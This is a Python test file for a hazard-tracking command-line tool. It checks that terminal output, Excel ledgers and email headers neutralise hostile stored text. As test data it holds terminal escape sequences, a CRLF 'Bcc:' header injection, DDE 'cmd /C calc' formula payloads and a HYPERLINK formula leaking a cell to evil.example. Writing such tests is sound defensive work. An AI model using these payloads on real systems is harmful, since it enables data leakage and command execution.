"""Every writer is safe on its own, whatever the text, even text already in an old database from before the rule
at the boundary: the terminal prints data as text (Rich markup is not read) with control characters made visible;
the Excel ledger keeps every text as a string cell (no formula injection) and survives characters XML cannot hold;
no control character reaches a mail header. Through the real command line, on SQLite and PostgreSQL."""

from __future__ import annotations

import email
import email.policy
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, select, update

from tests.support.factories import TOWNSHIP, detected
from tests.support.fixtures import Cli, write_events

NOW = "2025-03-04T12:00:00+08:00"
AT = "2025-03-03T08:00:00+08:00"
# What an old database may hold: an OSC sequence that retitles the window, a screen clear, a bell, a C1 control
# sequence introducer, a right-to-left override, a soft line break and a header smuggled after a line break.
HOSTILE = "消防\x1b]0;pwned\x07通道\x1b[2J堵塞\x9b31m\u202e反转\x0b\r\nBcc: evil@example.org"
TERMINAL_ACTIVE = ("\x1b", "\x07", "\x9b", "\u202e", "\x0b", "\r")


def _replace_strings(value: Any, old: str, new: str) -> Any:
    if isinstance(value, str):
        return value.replace(old, new)
    if isinstance(value, dict):
        return {k: _replace_strings(v, old, new) for k, v in value.items()}
    if isinstance(value, list):
        return [_replace_strings(v, old, new) for v in value]
    return value


def plant(url: str, old: str, new: str) -> None:
    """Write ``new`` where ``old`` stands in the stored text of hazards, transitions and notices, as a database
    written before the boundary refused such text would hold it (and before its audit rows were append-only)."""
    from hazardloop.models.store.audit import drop_append_only_triggers
    from hazardloop.models.store.tables import HazardRow, NoticeRow, TransitionRow

    engine = create_engine(url)
    h, t, n = HazardRow.__table__, TransitionRow.__table__, NoticeRow.__table__
    with engine.begin() as conn:
        drop_append_only_triggers(conn, ("transitions",))
        for row in conn.execute(select(h.c.id, h.c.title, h.c.description)).all():
            conn.execute(
                update(h)
                .where(h.c.id == row.id)
                .values(title=row.title.replace(old, new), description=row.description.replace(old, new))
            )
        for row in conn.execute(select(t.c.id, t.c.reason)).all():
            if row.reason:
                conn.execute(update(t).where(t.c.id == row.id).values(reason=row.reason.replace(old, new)))
        for row in conn.execute(select(n.c.id, n.c.subject, n.c.context)).all():
            conn.execute(
                update(n)
                .where(n.c.id == row.id)
                .values(subject=row.subject.replace(old, new), context=_replace_strings(row.context, old, new))
            )
    engine.dispose()


def _detect(cli: Cli, tmp_path: Path, *hazards: dict[str, Any]) -> None:
    cli.ok("apply", str(write_events(tmp_path / "d.jsonl", list(hazards))), now=NOW)


MARKUP = "[/]消防[bold red]通道[/bold red][link=http://evil.example]堵塞"


def test_rich_markup_in_data_is_printed_as_text_by_every_table_command(cli: Cli, tmp_path: Path) -> None:
    _detect(cli, tmp_path, detected("MK-1", AT, title=MARKUP, description=MARKUP))
    cli.ok("supervise", TOWNSHIP, "--reason", f"督办原因{MARKUP}", "--by", "SX", now=NOW)
    for args in (("hazards",), ("show", "MK-1"), ("notices",), ("listings",), ("preview", "--days", "30")):
        result = cli(*args, now=NOW)
        assert result.exit_code == 0, (args, result.stdout, result.stderr)
        assert "[/]" in result.stdout and "Traceback" not in result.stderr, (args, result.stdout)
    shown = cli.ok("show", "MK-1", now=NOW).stdout
    assert MARKUP in shown


def test_control_characters_never_reach_the_terminal(cli: Cli, tmp_path: Path) -> None:
    _detect(cli, tmp_path, detected("CC-1", AT, title="PLANTED", description="PLANTED"))
    cli.ok("supervise", TOWNSHIP, "--reason", "督办原因PLANTED", "--by", "SX", now=NOW)
    plant(cli.db, "PLANTED", HOSTILE)
    for args in (("hazards",), ("show", "CC-1"), ("notices",), ("preview", "--days", "30"), ("show", HOSTILE)):
        result = cli(*args, now=NOW)
        assert result.exit_code == (2 if args[-1] == HOSTILE else 0), (args, result.stdout, result.stderr)
        for char in TERMINAL_ACTIVE:
            assert char not in result.stdout and char not in result.stderr, (args, char, result.stdout)
    shown = cli.ok("show", "CC-1", now=NOW).stdout
    assert "\\x1b]0;pwned\\x07" in shown and "\\u202e" in shown  # shown, visibly, not acted on
    for args in (("show", "CC-1"), ("hazards",), ("notices",)):
        out = cli.ok(*args, "--json", now=NOW).stdout
        for char in TERMINAL_ACTIVE:
            assert char not in out, (args, char)
        assert any(HOSTILE in text for text in _strings(json.loads(out))), (
            args
        )  # JSON still says exactly what is stored


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for item in items for text in _strings(item)]


def _sheet_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "source": "+cmd|' /C calc'!A0",
    "address": "-2+3+cmd|' /C calc'!A0",
    "village": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_the_ledger_writes_every_text_as_a_string_cell_never_a_formula(cli: Cli, tmp_path: Path) -> None:
    hazard = detected("FX-1", AT, description="=1+1", **{k: v for k, v in FORMULAS.items() if k != "title"})
    hazard["hazard"]["title"] = FORMULAS["title"]
    _detect(cli, tmp_path, hazard)
    out = tmp_path / "ledger.xlsx"
    cli.ok("ledger", "--out", str(out), now=NOW)
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # no formula anywhere
    cells = {c.value: c for c in _sheet_cells(out) if isinstance(c.value, str)}
    for text in (FORMULAS["source"], f"{FORMULAS['title']}：=1+1"):
        assert text in cells, sorted(cells)
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    where = next(v for v in cells if FORMULAS["address"] in v)
    assert cells[where].data_type == "s"


def test_the_ledger_survives_characters_a_spreadsheet_cannot_hold(cli: Cli, tmp_path: Path) -> None:
    _detect(cli, tmp_path, detected("XC-1", AT, title="PLANTED", description="PLANTED"))
    plant(cli.db, "PLANTED", "灭火器\x0b过期\x1b[2J\x01")
    out = tmp_path / "ledger.xlsx"
    result = cli("ledger", "--out", str(out), now=NOW)
    assert result.exit_code == 0, result.stdout + result.stderr
    texts = [c.value for c in _sheet_cells(out) if isinstance(c.value, str)]
    shown = next(t for t in texts if "灭火器" in t)
    assert shown.startswith("灭火器\n过期\ufffd[2J\ufffd")


def _eml_headers(folder: Path) -> list[email.message.EmailMessage]:
    files = sorted(folder.rglob("*.eml"))
    assert files, f"no .eml under {folder}"
    return [email.message_from_bytes(f.read_bytes(), policy=email.policy.default) for f in files]  # type: ignore[misc]


def test_no_control_character_or_smuggled_header_reaches_a_mail(cli: Cli, tmp_path: Path) -> None:
    _detect(cli, tmp_path, detected("ML-1", AT, title="PLANTED"))
    plant(cli.db, "PLANTED", HOSTILE)
    result = cli("dispatch", "--json", now=NOW)
    assert result.exit_code == 0, result.stdout + result.stderr
    assert json.loads(result.stdout)["sent"] >= 1
    for message in _eml_headers(tmp_path / "outbox"):
        assert message["Bcc"] is None
        for name, value in message.items():
            assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in str(value)), (name, value)
            assert "\u2028" not in str(value)
        assert "消防" in str(message["Subject"]) and "pwned" in str(message["Subject"])


@pytest.mark.parametrize(
    "subject", ["交办\x00单", "交办\r\nBcc: evil@example.org", "交办\x1b[2J单", "plain\x07ascii", "交办\u2028单"]
)
def test_a_message_is_built_with_clean_headers_whatever_its_subject(subject: str) -> None:
    from datetime import UTC, datetime

    from hazardloop.notifications.messages import build_message, smtp_bytes
    from hazardloop.notifications.rendering import RenderedNotice

    rendered = RenderedNotice(subject=subject, text="正文\n", html="<p>正文</p>\n")
    message = build_message(
        rendered,
        sender="hazardloop@example.org",
        to=["zz@fs.example.org"],
        cc=[],
        message_id="k-1",
        date=datetime(2025, 3, 3, tzinfo=UTC),
        attachments=[("台账\r\nX-Evil: 1.xlsx", b"PK", "application/octet-stream")],
    )
    wire = smtp_bytes(message)
    head = wire.split(b"\r\n\r\n", 1)[0]
    assert b"Bcc" not in head
    assert not any(line.lstrip().startswith((b"Bcc", b"X-Evil")) for line in wire.split(b"\r\n"))
    parsed = email.message_from_bytes(wire, policy=email.policy.default)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c == "\u2028" for c in str(parsed["Subject"]))
